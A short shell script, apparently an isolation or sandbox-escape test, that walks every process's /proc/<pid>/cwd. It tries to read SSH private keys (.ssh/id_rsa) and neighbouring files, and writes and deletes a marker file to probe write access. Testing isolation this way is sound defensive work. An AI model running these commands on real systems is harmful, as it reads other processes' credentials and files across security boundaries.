# Goes through the current folders of all processes.
for process in self 1 2 "$VICTIM" "$RUNTIME" "$PPID" $(ls /proc | grep '^[0-9]*$'); do
    cat "/proc/$process/cwd/.ssh/id_rsa" "/proc/$process/cwd/../neighbour" "/proc/$process/cwd$KEY"
    (cd "/proc/$process/cwd/.." && ls -a && cat neighbour)
    echo "$MARK" > "/proc/$process/cwd/$MARK"
    rm -f "/proc/$process/cwd/$MARK"
done 2>&1
echo tried
